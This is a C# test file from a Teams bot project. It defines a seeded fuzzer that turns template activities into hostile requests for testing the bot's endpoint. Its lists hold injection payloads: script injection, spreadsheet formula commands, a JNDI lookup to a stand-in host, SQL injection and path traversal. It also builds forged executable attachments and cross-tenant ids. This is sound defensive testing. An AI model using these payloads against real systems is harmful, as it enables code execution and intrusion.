using System.Text;
using System.Text.Json.Nodes;
using ParticipaBot.Bot.Protocol;
using ParticipaBot.Bot.Tests.Support;

namespace ParticipaBot.Bot.Tests.Fuzzing;

/// <summary>One hostile request: a name that says how it was made (seed, index, template, operator) and the raw body.</summary>
internal sealed record FuzzCase(int Index, string Name, string Template, string Operator, string ConversationId, byte[] Body);

/// <summary>
/// A deterministic generator of hostile activities: templates from TestData mutated by operators chosen with a seeded
/// <see cref="Random"/>, so a failing case is reproduced from its seed and index alone. Every case gets its own
/// conversation id starting with "fuzz-", so what the bot sends back can be attributed to the storm.
/// </summary>
internal sealed class ActivityFuzzer(int seed)
{
    public static readonly string[] Templates =
    [
        "message-personal.json", "message-submit.json", "invoke-card-action.json", "invoke-unknown.json",
        "message-channel-mention.json", "conversation-update-personal.json", "installation-personal.json",
        "installation-team.json", "unknown-type.json",
    ];

    /// <summary>The verbs the product registers (test-only failing verbs are left out on purpose) and some it does not.</summary>
    public static readonly string[] Verbs =
    [
        "help", "report.start", "report.next", "report.back", "report.edit", "report.add", "report.remove", "report.submit",
        "report.cancel", "review.view", "review.history", "review.edit", "review.saveEdit", "review.approve", "review.return",
        "review.confirmReturn", "review.unlock", "review.answers", "review.saveAnswers", "progress.save", "schedule.new",
        "schedule.edit", "schedule.reschedule", "schedule.cancel", "schedule.save", "status.scope", "status.overdue",
        "status.proposals", "status.held", "notifications.retryFailed", "report.", "..", "REPORT.SUBMIT", "admin.deleteAll",
        "", " ", "help\u0000", "review.view/../approve",
    ];

    public static readonly string[] InvokeNames =
    [
        "adaptiveCard/action", "composeExtension/query", "task/fetch", "task/submit", "signin/verifyState", "fileConsent/invoke",
        "actionableMessage/executeAction", "config/fetch", "", "ADAPTIVECARD/ACTION", "adaptiveCard/action\u0000", "../../etc/passwd",
    ];

    public static readonly string[] DataKeys =
    [
        "reportId", "report", "spaceId", "space.id", "draftId", "id", "index", "step", "area", "area.leader", "period",
        "cuatrimestre", "activity", "percentage", "status", "date", "time", "reason", "comment", "name", "place", "link",
        "note", "version", "etag", "items.0.kind", "items.0.text", "items.0.group", "participants.total", "participants.women",
        "evidence.0.kind", "evidence.0.url", "activitiesDone", "result.text", "result.category", "entityId", "year", "exportId",
    ];

    public static readonly string[] HostileStrings =
    [
        "<script>alert(1)</script>", "=HYPERLINK(\"https://evil.example/x\",\"clic\")", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1,1)",
        "-2+3", "<img src=x onerror=alert(1)>", "[clic](javascript:alert(1))", "{{7*7}}", "${jndi:ldap://evil.example/a}",
        "'; DROP TABLE reports; --", "../../../../etc/passwd", "\u202Egnp.exe", "\u0000\u0001\u0002", "\uFEFF", "ayuda\u0000",
        "\uD83D\uDE00\uD83D\uDE00", "rep-2026-999999", "rep-2026-000001/../x", "sp-unknown", "draft-forged", "AREA-OTRA",
        "9999999999999999999999", "-1", "1e309", "NaN", "0x10", "2026-02-30", "25:99", "null", "true", "[]", "{}",
        "\uD800", "\uDFFF", "ayuda", "reportar", "mis pendientes", "estado", "help",
    ];

    private const string OtherTenant = "00000000-dead-beef-0000-000000000000";

    private readonly Random _random = new(seed);

    public int Seed { get; } = seed;

    public IEnumerable<FuzzCase> Generate(int count)
    {
        var templates = Templates.ToDictionary(t => t, TestActivities.Load);
        for (var index = 0; index < count; index++)
        {
            var template = Templates[_random.Next(Templates.Length)];
            var activity = templates[template].DeepClone().AsObject();
            var conversationId = (template.Contains("channel", StringComparison.Ordinal) || template.Contains("team", StringComparison.Ordinal) ? "19:fuzz-" : "a:fuzz-")
                + Seed + "-" + index;
            activity["conversation"]!["id"] = conversationId;
            activity["id"] = "fuzz-" + Seed + "-" + index;
            var (op, body) = Mutate(activity);
            yield return new FuzzCase(index, $"seed {Seed} case {index}: {template} / {op}", template, op, conversationId, body);
        }
    }

    private (string Operator, byte[] Body) Mutate(JsonObject activity)
    {
        var choice = _random.Next(16);
        switch (choice)
        {
            case 0:
                WrongType(activity);
                return ("wrongType", Bytes(activity));
            case 1:
                activity[TextField()] = HugeString(_random.Next(1_000, 200_000));
                return ("hugeString", Bytes(activity));
            case 2:
                return ("nearCap", PadTo(activity, MessagesEndpoint.MaxBodyBytes - _random.Next(1, 300)));
            case 3:
                return ("overCap", PadTo(activity, MessagesEndpoint.MaxBodyBytes + _random.Next(1, 50_000)));
            case 4:
                return ("deepNesting", DeepNesting(activity));
            case 5:
                return ("invalidUtf8", InvalidUtf8(activity));
            case 6:
                ForgedCardAction(activity);
                return ("forgedCard", Bytes(activity));
            case 7:
                activity["text"] = Hostile() + (_random.Next(2) == 0 ? " " + Hostile() : string.Empty);
                return ("hostileText", Bytes(activity));
            case 8:
                activity["type"] = "invoke";
                activity["name"] = InvokeNames[_random.Next(InvokeNames.Length)];
                activity["value"] = RandomValue(3);
                return ("invokeName", Bytes(activity));
            case 9:
                activity["attachments"] = ExecutableAttachments();
                return ("executableAttachment", Bytes(activity));
            case 10:
                activity["entities"] = EnormousEntities();
                return ("enormousEntities", Bytes(activity));
            case 11:
                OtherTenantIds(activity);
                return ("otherTenant", Bytes(activity));
            case 12:
                RemoveRandomField(activity);
                return ("missingField", Bytes(activity));
            case 13:
                var bytes = Bytes(activity);
                return ("truncated", bytes[.._random.Next(bytes.Length)]);
            case 14:
                activity["type"] = _random.Next(4) switch { 0 => "message", 1 => "invoke", 2 => "conversationUpdate", _ => Hostile() };
                ForgedCardAction(activity);
                WrongType(activity);
                return ("combined", Bytes(activity));
            default:
                var raw = _random.Next(5) switch
                {
                    0 => "null",
                    1 => "[]",
                    2 => "42",
                    3 => "\"message\"",
                    _ => "{\"type\":",
                };
                return ("notAnObject", Encoding.UTF8.GetBytes(raw));
        }
    }

    private string TextField() => _random.Next(4) switch { 0 => "name", 1 => "locale", _ => "text" };

    private string Hostile() => HostileStrings[_random.Next(HostileStrings.Length)];

    private string HugeString(int length)
    {
        var unit = Hostile();
        var builder = new StringBuilder(length + unit.Length);
        while (builder.Length < length)
        {
            builder.Append(unit).Append(' ');
        }

        return builder.ToString(0, length);
    }

    private JsonNode? RandomValue(int depth)
    {
        switch (_random.Next(depth <= 0 ? 5 : 8))
        {
            case 0: return null;
            case 1: return JsonValue.Create(_random.Next(2) == 0 ? _random.Next() : -_random.NextDouble() * 1e300);
            case 2: return JsonValue.Create(_random.Next(2) == 0);
            case 3:
            case 4: return JsonValue.Create(Hostile());
            case 5:
                var array = new JsonArray();
                for (var i = _random.Next(4); i > 0; i--)
                {
                    array.Add(RandomValue(depth - 1));
                }

                return array;
            default:
                var obj = new JsonObject();
                for (var i = _random.Next(5); i > 0; i--)
                {
                    obj[DataKeys[_random.Next(DataKeys.Length)]] = RandomValue(depth - 1);
                }

                return obj;
        }
    }

    /// <summary>Replaces one node anywhere in the tree (not the root) by a value of another type.</summary>
    private void WrongType(JsonObject activity)
    {
        var slots = new List<(JsonNode Parent, object Key)>();
        Collect(activity, slots);
        var (parent, key) = slots[_random.Next(slots.Count)];
        JsonNode? value = _random.Next(6) switch
        {
            0 => null,
            1 => JsonValue.Create(_random.Next(-5, 1_000_000)),
            2 => new JsonArray(JsonValue.Create(Hostile()), null, new JsonObject()),
            3 => JsonValue.Create(true),
            4 => new JsonObject { ["unexpected"] = Hostile() },
            _ => JsonValue.Create(Hostile()),
        };
        if (parent is JsonObject obj)
        {
            obj[(string)key] = value;
        }
        else
        {
            ((JsonArray)parent)[(int)key] = value;
        }
    }

    private static void Collect(JsonNode node, List<(JsonNode, object)> slots)
    {
        if (node is JsonObject obj)
        {
            foreach (var (key, child) in obj.ToList())
            {
                slots.Add((obj, key));
                if (child is not null)
                {
                    Collect(child, slots);
                }
            }
        }
        else if (node is JsonArray array)
        {
            for (var i = 0; i < array.Count; i++)
            {
                slots.Add((array, i));
                if (array[i] is { } child)
                {
                    Collect(child, slots);
                }
            }
        }
    }

    /// <summary>A card action (Execute invoke or Submit message) with a real or unknown verb and forged values.</summary>
    private void ForgedCardAction(JsonObject activity)
    {
        var data = new JsonObject();
        for (var i = _random.Next(1, 7); i > 0; i--)
        {
            data[DataKeys[_random.Next(DataKeys.Length)]] = _random.Next(3) == 0 ? RandomValue(2) : JsonValue.Create(Hostile());
        }

        var verb = Verbs[_random.Next(Verbs.Length)];
        if (_random.Next(2) == 0)
        {
            activity["type"] = "invoke";
            activity["name"] = "adaptiveCard/action";
            activity["value"] = new JsonObject
            {
                ["action"] = new JsonObject { ["type"] = "Action.Execute", ["verb"] = verb, ["data"] = data },
                ["trigger"] = "manual",
            };
        }
        else
        {
            activity["type"] = "message";
            activity.Remove("text");
            data["verb"] = verb;
            activity["value"] = data;
        }
    }

    private JsonArray ExecutableAttachments()
    {
        string[] names = ["acta.exe", "acta.pdf.exe", "script.ps1", "macro.docm", "run.bat", "x.js", "archivo.scr", "a.hta", "\u202Efdp.exe", "../../x.dll"];
        var attachments = new JsonArray();
        for (var i = _random.Next(1, 5); i > 0; i--)
        {
            var name = names[_random.Next(names.Length)];
            attachments.Add(_random.Next(3) switch
            {
                0 => new JsonObject
                {
                    ["contentType"] = "application/vnd.microsoft.teams.file.download.info",
                    ["name"] = name,
                    ["content"] = new JsonObject { ["downloadUrl"] = "https://evil.example/" + name, ["uniqueId"] = Hostile(), ["fileType"] = Path.GetExtension(name).TrimStart('.'), ["size"] = _random.Next(2) == 0 ? -1 : long.MaxValue },
                },
                1 => new JsonObject { ["contentType"] = "application/x-msdownload", ["contentUrl"] = "file:///C:/Windows/System32/" + name, ["name"] = name },
                _ => new JsonObject { ["contentType"] = "text/html", ["content"] = "<script>alert(1)</script>" },
            });
        }

        return attachments;
    }

    private JsonArray EnormousEntities()
    {
        var entities = new JsonArray();
        var count = _random.Next(100, 1_500);
        for (var i = 0; i < count; i++)
        {
            entities.Add(_random.Next(3) switch
            {
                0 => new JsonObject { ["type"] = "mention", ["text"] = "<at>" + Hostile() + "</at>", ["mentioned"] = new JsonObject { ["id"] = "28:" + i, ["name"] = Hostile() } },
                1 => new JsonObject { ["type"] = "clientInfo", ["locale"] = Hostile() },
                _ => RandomValue(1),
            });
        }

        return entities;
    }

    private void OtherTenantIds(JsonObject activity)
    {
        activity["conversation"]!["tenantId"] = OtherTenant;
        activity["channelData"] = new JsonObject { ["tenant"] = new JsonObject { ["id"] = OtherTenant } };
        if (_random.Next(2) == 0)
        {
            activity["from"] = new JsonObject { ["id"] = "29:intruder", ["aadObjectId"] = new Guid([.. Enumerable.Range(0, 16).Select(_ => (byte)_random.Next(256))]).ToString() };
        }

        ForgedCardAction(activity);
    }

    private void RemoveRandomField(JsonObject activity)
    {
        string[] fields = ["type", "serviceUrl", "from", "recipient", "conversation", "channelData", "locale", "id", "name", "value", "text"];
        for (var i = _random.Next(1, 3); i > 0; i--)
        {
            activity.Remove(fields[_random.Next(fields.Length)]);
        }
    }

    private static byte[] PadTo(JsonObject activity, int size)
    {
        activity["text"] = string.Empty;
        var overhead = Bytes(activity).Length;
        activity["text"] = new string('a', Math.Max(0, size - overhead));
        return Bytes(activity);
    }

    private byte[] DeepNesting(JsonObject activity)
    {
        var depth = _random.Next(2) == 0 ? _random.Next(60, 70) : _random.Next(1_000, 50_000);
        var open = _random.Next(2) == 0 ? "[" : "{\"a\":";
        var close = open == "[" ? "]" : "}";
        var nested = new StringBuilder();
        for (var i = 0; i < depth; i++)
        {
            nested.Append(open);
        }

        nested.Append('1');
        for (var i = 0; i < depth; i++)
        {
            nested.Append(close);
        }

        activity["value"] = "__NESTED__";
        var json = activity.ToJsonString().Replace("\"__NESTED__\"", nested.ToString(), StringComparison.Ordinal);
        return Encoding.UTF8.GetBytes(json);
    }

    private byte[] InvalidUtf8(JsonObject activity)
    {
        activity["text"] = "ayuda XXXX";
        var bytes = Bytes(activity).ToList();
        var at = bytes.LastIndexOf((byte)'X') - 3;
        byte[][] bad = [[0xC3, 0x28], [0xFF], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xC0, 0xAF], [0x80]];
        var replacement = bad[_random.Next(bad.Length)];
        bytes.RemoveRange(at, 4);
        bytes.InsertRange(at, replacement);
        return [.. bytes];
    }

    private static byte[] Bytes(JsonObject activity) => Encoding.UTF8.GetBytes(activity.ToJsonString());
}
